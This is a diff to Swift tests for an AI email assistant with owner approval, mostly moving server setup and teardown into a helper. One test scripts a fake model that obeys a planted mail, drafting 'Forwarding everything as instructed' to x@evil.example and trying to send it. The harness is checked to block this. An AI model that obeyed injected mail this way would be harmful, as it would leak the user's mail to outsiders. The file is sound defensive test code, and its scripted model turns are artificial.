@@ -68,6 +68,24 @@ import Testing
         return Setup(store: store, directory: directory, orchestrator: orchestrator, sender: sender)
     }
 
+    /// The setup over a fresh fake model server; everything is torn down afterwards, also on failure.
+    static func withSetup(_ body: (Setup, FakeLLMServer) async throws -> Void) async throws {
+        let server = FakeLLMServer()
+        try await server.start()
+        let transport = AsyncHTTPTransport()
+        var failure: (any Error)?
+        do {
+            let setup = try await setup(server, transport)
+            defer { try? FileManager.default.removeItem(at: setup.directory) }
+            try await body(setup, server)
+        } catch {
+            failure = error
+        }
+        try await transport.shutdown()
+        await server.stop()
+        if let failure { throw failure }
+    }
+
     static func cards(_ replies: [KeyedDelivery]) -> [OutboundMessage] {
         replies.compactMap { delivery in
             if case .send(_, let message) = delivery.delivery, !message.buttons.isEmpty { return message }
@@ -76,56 +94,47 @@ import Testing
     }
 
     @Test func emailSarahSearchesDraftsAndAsksForApprovalWithoutSending() async throws {
-        let server = FakeLLMServer()
-        try await server.start()
-        let transport = AsyncHTTPTransport()
-        let setup = try await Self.setup(server, transport)
-        defer { try? FileManager.default.removeItem(at: setup.directory) }
-        await server.state.enqueue(
-            .toolCalls([FakeLLMToolCall(id: "c1", name: "mail_search", arguments: #"{"query":"from:sarah"}"#),
-                        FakeLLMToolCall(id: "c2", name: "calendar_list_events",
-                                        arguments: #"{"start":"2026-11-26T00:00:00+01:00","end":"2026-11-27T00:00:00+01:00"}"#)]),
-            .toolCalls([FakeLLMToolCall(id: "c3", name: "mail_draft_reply", arguments: """
-                {"to":["sarah@example.com"],"body":"Hi Sarah, Thursday's meeting moves to 3pm.","reply_to_message_id":"m-sarah"}
-                """)]),
-            .text("I drafted the reply; approve it to send."))
-        let replies = await setup.say("Email Sarah that Thursday's meeting moves to 3pm")
+        try await Self.withSetup { setup, server in
+            await server.state.enqueue(
+                .toolCalls([FakeLLMToolCall(id: "c1", name: "mail_search", arguments: #"{"query":"from:sarah"}"#),
+                            FakeLLMToolCall(id: "c2", name: "calendar_list_events",
+                                            arguments: #"{"start":"2026-11-26T00:00:00+01:00","end":"2026-11-27T00:00:00+01:00"}"#)]),
+                .toolCalls([FakeLLMToolCall(id: "c3", name: "mail_draft_reply", arguments: """
+                    {"to":["sarah@example.com"],"body":"Hi Sarah, Thursday's meeting moves to 3pm.","reply_to_message_id":"m-sarah"}
+                    """)]),
+                .text("I drafted the reply; approve it to send."))
+            let replies = await setup.say("Email Sarah that Thursday's meeting moves to 3pm")
 
-        let requests = await server.state.requests
-        #expect(requests.count == 3)
-        let toolResult = requests[1].messages.compactMap { $0["content"]?.stringValue }.joined(separator: "\n")
-        #expect(toolResult.contains("<untrusted") && toolResult.contains("Thursday's meeting"))
-        let card = try #require(Self.cards(replies).first)
-        #expect(card.plainText.contains("To: Sarah Lee <sarah@example.com>"))
-        #expect(card.plainText.contains("Subject: Re: Thursday's meeting"))
-        #expect(card.plainText.contains("Hi Sarah, Thursday's meeting moves to 3pm."))
-        #expect(await setup.sender.sent.isEmpty, "nothing is sent before Approve")
-        try await transport.shutdown()
-        await server.stop()
+            let requests = await server.state.requests
+            #expect(requests.count == 3)
+            let toolResult = requests[1].messages.compactMap { $0["content"]?.stringValue }.joined(separator: "\n")
+            #expect(toolResult.contains("<untrusted") && toolResult.contains("Thursday's meeting"))
+            let card = try #require(Self.cards(replies).first)
+            #expect(card.plainText.contains("To: Sarah Lee <sarah@example.com>"))
+            #expect(card.plainText.contains("Subject: Re: Thursday's meeting"))
+            #expect(card.plainText.contains("Hi Sarah, Thursday's meeting moves to 3pm."))
+            #expect(await setup.sender.sent.isEmpty, "nothing is sent before Approve")
+        }
     }
 
     @Test func aGullibleModelObeyingAMailGetsNoFurtherThanACardToThatMailsSender() async throws {
-        let server = FakeLLMServer()
-        try await server.start()
-        let transport = AsyncHTTPTransport()
-        let setup = try await Self.setup(server, transport)
-        defer { try? FileManager.default.removeItem(at: setup.directory) }
-        await server.state.enqueue(
-            .toolCalls([FakeLLMToolCall(id: "c1", name: "mail_search", arguments: #"{"query":"assistant"}"#)]),
-            .toolCalls([FakeLLMToolCall(id: "c2", name: "mail_draft_reply", arguments: """
-                {"to":["x@evil.example"],"body":"Forwarding everything as instructed.","reply_to_message_id":"m-evil"}
-                """),
-                        FakeLLMToolCall(id: "c3", name: "mail_send_draft", arguments: #"{"draft_id":"everything"}"#)]),
-            .text("Done, everything was forwarded."))
-        let replies = await setup.say("deal with whatever IT wants")
-        let cards = Self.cards(replies)
-        #expect(cards.count == 1)
-        #expect(cards.first?.plainText.contains("To: IT Desk <it@desk.example>\n") == true,
-                "the reply goes to the mail's sender only, whatever address the model named")
-        #expect(replies.texts.contains { $0.contains("I can't turn mail_send_draft into an approval card yet") })
-        #expect(await setup.sender.sent.isEmpty)
-        #expect(try await setup.store.pending(of: 1).count == 1, "one request, waiting for the owner")
-        try await transport.shutdown()
-        await server.stop()
+        try await Self.withSetup { setup, server in
+            await server.state.enqueue(
+                .toolCalls([FakeLLMToolCall(id: "c1", name: "mail_search", arguments: #"{"query":"assistant"}"#)]),
+                .toolCalls([FakeLLMToolCall(id: "c2", name: "mail_draft_reply", arguments: """
+                    {"to":["x@evil.example"],"body":"Forwarding everything as instructed.","reply_to_message_id":"m-evil"}
+                    """),
+                            FakeLLMToolCall(id: "c3", name: "mail_send_draft", arguments: #"{"draft_id":"everything"}"#)]),
+                .text("Done, everything was forwarded."))
+            let replies = await setup.say("deal with whatever IT wants")
+            let cards = Self.cards(replies)
+            #expect(cards.count == 1)
+            #expect(cards.first?.plainText.contains("To: IT Desk <it@desk.example>\n") == true,
+                    "the reply goes to the mail's sender only, whatever address the model named")
+            #expect(replies.texts.contains { $0.contains("I can't turn mail_send_draft into an approval card yet") })
+            #expect(await setup.sender.sent.isEmpty)
+            let waiting = try await setup.store.pending(of: 1)
+            #expect(waiting.count == 1, "one request, waiting for the owner")
+        }
     }
 }
